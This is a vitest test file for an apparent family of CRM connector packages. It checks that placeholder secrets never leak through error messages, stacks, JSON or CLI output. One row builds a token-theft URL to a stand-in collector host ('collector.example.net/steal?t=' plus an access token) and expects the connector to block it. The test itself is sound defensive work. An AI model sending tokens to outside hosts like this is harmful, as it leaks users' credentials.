/**
 * Secrets on every error path: each row provokes one failure with known secrets in play (client
 * secret, tokens, password, API token, PKCE verifier, code, store key) and checks that none of
 * them appears in the error's message, stack, `util.inspect` or JSON, nor in its causes.
 */
import { execFileSync } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { inspect } from "node:util";
import { main } from "@x/cli";
import { parse, redact } from "@x/conn-string";
import { ConnectorError } from "@x/connector-kit";
import { consentedRedirectUrl, type Emulator, followConsent, startEmulator } from "@x/emulator";
import { connector as highrise } from "@x/highrise";
import {
  defineOAuthProvider,
  OAuthError,
  processRedirect,
  processTokenResponse,
} from "@x/oauth-core";
import { connector as pipedrive } from "@x/pipedrive";
import {
  createSettingsStore,
  fileDriver,
  memoryDriver,
  openSettingsStore,
  SettingsStoreError,
} from "@x/settings-store";
import { connector as zendesk } from "@x/zendesk";
import { connector as zohoCrm } from "@x/zoho-crm";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { expectNoSecrets, renderings, tempDir } from "./support.js";

const S = {
  clientSecret: "cs-9f8e7d6c5b4a-client-secret",
  accessToken: "at-1a2b3c4d5e6f-access-token",
  refreshToken: "rt-6f5e4d3c2b1a-refresh-token",
  password: "pw-correct-horse-battery",
  apiToken: "api-0123456789abcdef-token",
  verifier: "pkce-verifier-abcdefghijklmnopqrstuvwxyz0123456789",
  code: "code-1234567890-authorization",
  storeSecret: "store-secret-passphrase-42",
  dbPassword: "db-password-s3cr3t",
  /** The part of a password after an unquoted ';' (it becomes a "property name"). */
  pwTail: "Tail9zx8-of-the-password",
} as const;
const ALL = Object.values(S);

let emulator: Emulator;
let dir: string;
const quiet = { onAuthorizationUrl: () => {}, onWarning: () => {} };

beforeAll(async () => {
  emulator = await startEmulator({ autoApprove: true });
  for (const provider of ["zoho", "pipedrive", "zendesk", "highrise"]) {
    emulator.registerClient({
      provider,
      clientId: `faults-${provider}`,
      clientSecret: S.clientSecret,
    });
  }
  dir = await tempDir("secrets");
});
afterAll(() => emulator.close());

const def = defineOAuthProvider({
  id: "example",
  authorizationEndpoint: "https://auth.example.com/authorize",
  tokenEndpoint: "https://auth.example.com/token",
});
const oauthProps = (provider: string, extra = "") =>
  `EmulatorURL=${emulator.url};OAuthClientId=faults-${provider};OAuthClientSecret=${S.clientSecret};CallbackURL=http://127.0.0.1:0/callback${extra}`;

interface Row {
  pkg: string;
  path: string;
  /** Returns what failed (an error), or an object whose renderings must be clean. */
  run: () => Promise<unknown>;
  /** The error must be of a typed family (has a stable `code`). Default true. */
  typed?: boolean;
}

async function failure(fn: () => unknown): Promise<unknown> {
  try {
    await fn();
  } catch (error) {
    return error;
  }
  throw new Error("expected a failure");
}

/** Runs xconn in-process with each argv; every exit code and all output, stdout and stderr together. */
async function xconn(...runs: string[][]): Promise<{ codes: number[]; output: string }> {
  let output = "";
  const write = (s: string) => (output += s);
  const io = { stdout: { write }, stderr: { write }, env: {} };
  const codes: number[] = [];
  for (const argv of runs) codes.push(await main(argv, io));
  return { codes, output };
}

/** Opens a store at an unreachable Redis/PostgreSQL URL and returns the failure of a read. */
async function unreachableStore(location: string): Promise<unknown> {
  const store = await openSettingsStore(location, { provider: "zoho", secret: S.storeSecret });
  try {
    return await failure(() => store.get());
  } finally {
    await store.close?.().catch(() => {});
  }
}

/** Connects with credentials the emulator refuses and returns the failure of `connect()` or `test()`. */
async function refused(
  connector: {
    connect(input: string, options: typeof quiet): Promise<{ test(): Promise<unknown> }>;
  },
  connectionString: string,
): Promise<unknown> {
  // Refused at connect() (Zendesk knows passwords are off) or at the first call.
  return failure(async () => (await connector.connect(connectionString, quiet)).test());
}

const rows: Row[] = [
  // @x/conn-string
  {
    pkg: "conn-string",
    path: "unterminated quote inside a secret value",
    run: () => failure(() => parse(`User=me;Password='${S.password};URL=https://x`)),
  },
  {
    pkg: "conn-string",
    path: "misspelt secret property (suggestion given)",
    run: () => failure(() => pipedrive.parseConfig(`AuthScheme=Basic;APITokn=${S.apiToken}`)),
  },
  {
    pkg: "conn-string",
    path: "invalid value next to secrets",
    run: () =>
      failure(() =>
        zendesk.parseConfig(
          `URL=https://acme.zendesk.com;User=me@acme.com;Password=${S.password};APIToken=${S.apiToken};Timeout=soon`,
        ),
      ),
  },
  {
    pkg: "conn-string",
    path: "a validated config: inspect, JSON, toString",
    typed: false,
    run: async () =>
      zendesk.parseConfig(
        `URL=https://acme.zendesk.com;AuthScheme=Basic;User=me@acme.com;APIToken=${S.apiToken};OAuthClientSecret=${S.clientSecret};OAuthRefreshToken=${S.refreshToken};OAuthAccessToken=${S.accessToken}`,
      ),
  },
  {
    pkg: "conn-string",
    path: "unquoted ';' in a password: its tail parsed as a property name",
    run: () =>
      failure(() =>
        zendesk.parseConfig(
          `URL=https://acme.zendesk.com;AuthScheme=Basic;User=me;Password=hunter;${S.pwTail};Timeout=5`,
        ),
      ),
  },
  {
    pkg: "conn-string",
    path: "Password==value (the name swallows the value)",
    run: () =>
      failure(() =>
        zendesk.parseConfig(`URL=https://acme.zendesk.com;Password==${S.pwTail};User=me`),
      ),
  },
  {
    pkg: "conn-string",
    path: "syntax error: an unquoted ';' in the last secret",
    run: () =>
      failure(() =>
        zendesk.parseConfig(`URL=https://acme.zendesk.com;User=me;Password=hunter;${S.pwTail}`),
      ),
  },
  {
    pkg: "conn-string",
    path: "redact() of a string whose secret holds an unquoted ';'",
    typed: false,
    run: async () => ({
      output: [
        redact(`User=me;Password=hunter;${S.pwTail};Timeout=5`, {
          properties: zendesk.properties,
        }),
        redact(`Password==${S.pwTail};User=me`),
        redact(`User=me;APIToken=x;${S.pwTail}`),
      ].join("\n"),
    }),
  },
  {
    pkg: "conn-string",
    path: "a one-megabyte unknown property next to secrets",
    run: () =>
      failure(() =>
        zendesk.parseConfig(
          `URL=https://acme.zendesk.com;APIToken=${S.apiToken};User=me;${"Q".repeat(1_000_000)}=1`,
        ),
      ),
  },
  {
    pkg: "conn-string",
    path: "Timeout out of range next to secrets",
    run: () =>
      failure(() =>
        zendesk.parseConfig(
          `URL=https://acme.zendesk.com;User=me;Password=${S.password};Timeout=2147484`,
        ),
      ),
  },
  {
    pkg: "connector-kit",
    path: "a config whose OAuthSettingsLocation holds a Redis password: inspect, JSON, String",
    typed: false,
    run: async () =>
      zendesk.parseConfig(
        `URL=https://acme.zendesk.com;OAuthSettingsLocation=redis://:${S.dbPassword}@127.0.0.1:6379/0`,
      ),
  },
  {
    pkg: "connector-kit",
    path: "redact() of a connection string with a Redis or PostgreSQL location",
    typed: false,
    run: async () => ({
      output: [
        redact(`OAuthSettingsLocation=redis://:${S.dbPassword}@127.0.0.1:6379/0`, {
          properties: zendesk.properties,
        }),
        redact(`OAuthSettingsLocation='postgres://u:${S.dbPassword}@h/db';User=me`, {
          properties: zendesk.properties,
        }),
      ].join("\n"),
    }),
  },
  {
    pkg: "settings-store",
    path: "malformed Redis URL with a password (an unencoded '/')",
    run: () =>
      failure(() =>
        openSettingsStore(`redis://:${S.dbPassword}/x@127.0.0.1:6379/0`, {
          provider: "zoho",
          secret: S.storeSecret,
        }),
      ),
  },
  {
    pkg: "settings-store",
    path: "Redis refuses the user and password (WRONGPASS)",
    run: () => unreachableStore(`redis://no-such-user-faults:${S.dbPassword}@127.0.0.1:6379/0`),
  },
  {
    pkg: "settings-store",
    path: "a FIFO as the settings file, next to the store secret",
    run: async () => {
      const fifo = join(dir, "fifo");
      execFileSync("mkfifo", [fifo]);
      const store = await openSettingsStore(fifo, { provider: "zoho", secret: S.storeSecret });
      return failure(() => store.get());
    },
  },
  // @x/settings-store
  {
    pkg: "settings-store",
    path: "file written with one key, read with another",
    run: async () => {
      const path = join(dir, "wrong-key.json");
      const a = createSettingsStore(fileDriver({ path }), {
        key: "k",
        encryption: { secret: S.storeSecret },
      });
      await a.set({ accessToken: S.accessToken, refreshToken: S.refreshToken });
      const b = createSettingsStore(fileDriver({ path }), {
        key: "k",
        encryption: { secret: "another-secret-entirely" },
      });
      return failure(() => b.get());
    },
  },
  {
    pkg: "settings-store",
    path: "a truncated settings file that holds plain tokens",
    run: async () => {
      const path = join(dir, "truncated.json");
      await writeFile(path, `{"refreshToken":"${S.refreshToken}","accessToken":"${S.accessToken}`);
      return failure(() => fileDriver({ path }).get("k"));
    },
  },
  {
    pkg: "settings-store",
    path: "an invalid record written next to tokens",
    run: () =>
      failure(() =>
        createSettingsStore(memoryDriver(), {
          key: "k",
          encryption: { secret: S.storeSecret },
        }).set({
          accessToken: S.accessToken,
          refreshToken: S.refreshToken,
          expiresAt: "tomorrow" as unknown as number,
        }),
      ),
  },
  {
    pkg: "settings-store",
    path: "Redis URL with a password, server unreachable",
    run: () => unreachableStore(`redis://:${S.dbPassword}@127.0.0.1:1/0`),
  },
  {
    pkg: "settings-store",
    path: "PostgreSQL URL with a password, server unreachable",
    run: () => unreachableStore(`postgres://postgres:${S.dbPassword}@127.0.0.1:1/test`),
  },
  // @x/oauth-core
  {
    pkg: "oauth-core",
    path: "token endpoint HTML page that echoes the request",
    run: () =>
      failure(() =>
        processTokenResponse(
          def,
          {
            status: 500,
            headers: { "content-type": "text/html" },
            bodyText: `<html><body>Bad request: refresh_token=${S.refreshToken}&client_secret=${S.clientSecret}</body></html>`,
          },
          { now: Date.now(), secrets: [S.refreshToken, S.clientSecret], grant: "refresh token" },
        ),
      ),
  },
  {
    pkg: "oauth-core",
    path: "error_description echoing the request URL-encoded, HTML-escaped, camelCase",
    run: () =>
      failure(() =>
        processTokenResponse(
          def,
          {
            status: 400,
            headers: { "content-type": "application/json" },
            bodyText: JSON.stringify({
              error: "invalid_grant",
              error_description: `got ${encodeURIComponent(`refresh_token=${S.refreshToken}&client_secret=${S.clientSecret}`)}; &quot;refreshToken&quot;:&quot;${S.refreshToken}&quot;; {"clientSecret":"${S.clientSecret}"}`,
            }),
          },
          { now: Date.now(), secrets: [S.refreshToken, S.clientSecret], grant: "refresh token" },
        ),
      ),
  },
  {
    pkg: "oauth-core",
    path: "HTTP-200 error body with nested token fields in error_description",
    run: () =>
      failure(() =>
        processTokenResponse(
          def,
          {
            status: 200,
            headers: { "content-type": "application/json" },
            bodyText: JSON.stringify({
              error: "invalid_request",
              error_description: JSON.stringify({
                request: { body: { refresh_token: S.refreshToken, clientSecret: S.clientSecret } },
              }),
            }),
          },
          { now: Date.now(), secrets: [S.refreshToken, S.clientSecret], grant: "refresh token" },
        ),
      ),
  },
  {
    pkg: "oauth-core",
    path: "200 token response with an unusable field",
    run: () =>
      failure(() =>
        processTokenResponse(
          def,
          {
            status: 200,
            headers: { "content-type": "application/json" },
            bodyText: JSON.stringify({
              access_token: S.accessToken,
              refresh_token: S.refreshToken,
              token_type: "bearer",
              expires_in: "later",
            }),
          },
          { now: Date.now(), secrets: [S.clientSecret] },
        ),
      ),
  },
  {
    pkg: "oauth-core",
    path: "200 token response without a token type",
    run: () =>
      failure(() =>
        processTokenResponse(
          def,
          {
            status: 200,
            headers: {},
            bodyText: JSON.stringify({ access_token: S.accessToken, token_type: 42 }),
          },
          { now: Date.now() },
        ),
      ),
  },
  {
    pkg: "oauth-core",
    path: "redirect with a different state",
    run: () =>
      failure(() =>
        processRedirect(`http://127.0.0.1/cb?code=${S.code}&state=forged`, {
          expectedState: "expected-state",
        }),
      ),
  },
  {
    pkg: "oauth-core",
    path: "redirect with an error and a code",
    run: () =>
      failure(() =>
        processRedirect(`http://127.0.0.1/cb?code=${S.code}&error=server_error&state=s`, {
          expectedState: "s",
        }),
      ),
  },
  // connectors (connector-kit + providers) against the emulator
  {
    pkg: "zoho-crm",
    path: "wrong client secret at code exchange",
    run: async () => {
      const props = `Region=EU;EmulatorURL=${emulator.url};OAuthClientId=faults-zoho;OAuthClientSecret=${S.clientSecret}`;
      const auth = await zohoCrm.getAuthorizationUrl(props, {
        authMode: "WEB",
        callbackUrl: "http://127.0.0.1:9/cb",
      });
      const redirect = await consentedRedirectUrl(auth.url);
      return failure(() =>
        zohoCrm.getAccessToken(
          `Region=EU;EmulatorURL=${emulator.url};OAuthClientId=faults-zoho;OAuthClientSecret=wrong-${S.clientSecret}`,
          { verifier: redirect.href, state: auth.state, callbackUrl: "http://127.0.0.1:9/cb" },
        ),
      );
    },
  },
  {
    pkg: "zendesk",
    path: "wrong PKCE verifier at code exchange (public client)",
    run: async () => {
      emulator.registerClient({ provider: "zendesk", clientId: "faults-public" });
      const props = `URL=https://emulated.zendesk.com;EmulatorURL=${emulator.url};OAuthClientId=faults-public`;
      const auth = await zendesk.getAuthorizationUrl(props, {
        authMode: "WEB",
        callbackUrl: "http://127.0.0.1:9/cb",
      });
      expect(auth.url).toContain("code_challenge=");
      const code = (await consentedRedirectUrl(auth.url)).searchParams.get("code")!;
      return failure(() =>
        zendesk.getAccessToken(
          props,
          {
            verifier: code,
            callbackUrl: "http://127.0.0.1:9/cb",
            codeVerifier: S.verifier,
          },
          { env: {} },
        ),
      );
    },
  },
  {
    pkg: "zendesk",
    path: "headless OAuthVerifier that the server does not know",
    run: () =>
      failure(() =>
        zendesk.connect(
          `URL=https://emulated.zendesk.com;${oauthProps("zendesk")};InitiateOAuth=REFRESH;OAuthSettingsLocation=memory://faults-verifier;OAuthVerifier=${S.code}`,
          quiet,
        ),
      ),
  },
  {
    pkg: "pipedrive",
    path: "refresh with a revoked refresh token",
    run: () =>
      failure(() =>
        pipedrive.refreshAccessToken(
          `${oauthProps("pipedrive")};OAuthRefreshToken=${S.refreshToken}`,
        ),
      ),
  },
  {
    pkg: "pipedrive",
    path: "API token refused (401)",
    run: () =>
      refused(
        pipedrive,
        `AuthScheme=Basic;APIToken=${S.apiToken};CompanyDomain=emulatedcompany;EmulatorURL=${emulator.url}`,
      ),
  },
  {
    pkg: "zendesk",
    path: "password refused (401), legacy Basic",
    run: () =>
      refused(
        zendesk,
        `URL=https://emulated.zendesk.com;AuthScheme=Basic;User=agent@emulated.example;Password=${S.password};EmulatorURL=${emulator.url}`,
      ),
  },
  {
    pkg: "zendesk",
    path: "API token refused (401)",
    run: () =>
      refused(
        zendesk,
        `URL=https://emulated.zendesk.com;AuthScheme=Basic;User=agent@emulated.example;APIToken=${S.apiToken};EmulatorURL=${emulator.url}`,
      ),
  },
  {
    pkg: "highrise",
    path: "API token refused",
    run: () =>
      refused(
        highrise,
        `AuthScheme=APIToken;AccountId=emulated;APIToken=${S.apiToken};EmulatorURL=${emulator.url}`,
      ),
  },
  {
    pkg: "connector-kit",
    path: "request to a host the provider does not own",
    run: async () => {
      const conn = await pipedrive.connect(
        `InitiateOAuth=OFF;OAuthAccessToken=${S.accessToken};CompanyDomain=emulatedcompany;EmulatorURL=${emulator.url}`,
        quiet,
      );
      return failure(() => conn.getJson(`https://collector.example.net/steal?t=${S.accessToken}`));
    },
  },
  {
    pkg: "connector-kit",
    path: "EmulatorURL that is not loopback, with credentials in it",
    run: () =>
      failure(() =>
        pipedrive.connect(
          `AuthScheme=Basic;APIToken=${S.apiToken};CompanyDomain=acme;EmulatorURL=https://u:${S.password}@emulator.example.com`,
          quiet,
        ),
      ),
  },
  {
    pkg: "connector-kit",
    path: "an OAuth connection: inspect, JSON, toString",
    typed: false,
    run: async () => {
      const location = join(dir, "conn.json");
      return zendesk.connect(
        `URL=https://emulated.zendesk.com;${oauthProps("zendesk")};InitiateOAuth=GETANDREFRESH;OAuthSettingsLocation=${location}`,
        { ...quiet, openBrowser: followConsent },
      );
    },
  },
  // @x/cli: what a person sees on the terminal
  {
    pkg: "cli",
    path: "`xconn test` with a refused API token: stderr and --json",
    typed: false,
    run: async () => {
      const cs = `AuthScheme=Basic;APIToken=${S.apiToken};CompanyDomain=emulatedcompany;EmulatorURL=${emulator.url}`;
      const { codes, output } = await xconn(
        ["connect", "pipedrive", cs],
        ["connect", "pipedrive", cs, "--json"],
      );
      expect(codes.every((c) => c !== 0)).toBe(true);
      expect(output).toContain("CONNECTOR_UNAUTHORIZED");
      return { output };
    },
  },
  {
    pkg: "cli",
    path: "`xconn connect` with an unquoted ';' in a password: plain and --json",
    typed: false,
    run: async () => {
      const cs = `URL=https://emulated.zendesk.com;AuthScheme=Basic;User=me;Password=hunter;${S.pwTail};EmulatorURL=${emulator.url}`;
      const { codes, output } = await xconn(
        ["connect", "zendesk", cs],
        ["connect", "zendesk", cs, "--json"],
        ["connect", "zendesk", `URL=https://emulated.zendesk.com;Password==${S.pwTail}`],
      );
      expect(codes.every((c) => c === 2)).toBe(true);
      expect(output).toContain("CONN_STRING_UNKNOWN_PROPERTY");
      return { output };
    },
  },
  {
    pkg: "cli",
    path: "`xconn auth-url` with a malformed connection string",
    typed: false,
    run: async () => {
      const { codes, output } = await xconn([
        "auth-url",
        "zendesk",
        `OAuthClientSecret='${S.clientSecret};OAuthClientId=x`,
      ]);
      expect(codes[0]).not.toBe(0);
      expect(output).toContain("OAuthClientSecret");
      return { output };
    },
  },
];

const seen: { package: string; path: string; code: string; clean: string }[] = [];

describe("no secret on any error path", () => {
  test.each(rows)("$pkg: $path", async (row) => {
    const result = await row.run();
    if (row.typed !== false) {
      expect(
        result instanceof ConnectorError ||
          result instanceof OAuthError ||
          result instanceof SettingsStoreError ||
          (result instanceof Error && typeof (result as { code?: unknown }).code === "string"),
        `untyped error: ${inspect(result)}`,
      ).toBe(true);
    }
    expectNoSecrets(result, ALL);
    if (result && typeof result === "object" && "output" in result) {
      for (const secret of ALL) expect((result as { output: string }).output).not.toContain(secret);
    }
    seen.push({
      package: row.pkg,
      path: row.path,
      code: (result as { code?: string }).code ?? (result instanceof Error ? result.name : "-"),
      clean: `${Object.keys(renderings(result)).length} renderings clean`,
    });
    if (result && typeof (result as { close?: unknown }).close === "function") {
      await (result as { close: () => Promise<void> }).close();
    }
  });

  test("the check itself sees a secret in a message, a cause, a field or JSON", () => {
    const leaks = [
      new Error(`token ${S.accessToken}`),
      new Error("outer", { cause: new Error(S.refreshToken) }),
      Object.assign(new Error("field"), { sent: S.password }),
      Object.assign(new Error("json"), { toJSON: () => ({ secret: S.clientSecret }) }),
    ];
    for (const leak of leaks) expect(() => expectNoSecrets(leak, ALL)).toThrow(/contains a secret/);
  });

  test("the table covers every package with an error path", () => {
    const packages = new Set(rows.map((r) => r.pkg));
    for (const p of [
      "conn-string",
      "settings-store",
      "oauth-core",
      "connector-kit",
      "cli",
      "zoho-crm",
      "pipedrive",
      "highrise",
      "zendesk",
    ]) {
      expect(packages.has(p), p).toBe(true);
    }
    if (seen.length > 0) console.table(seen);
  });
});
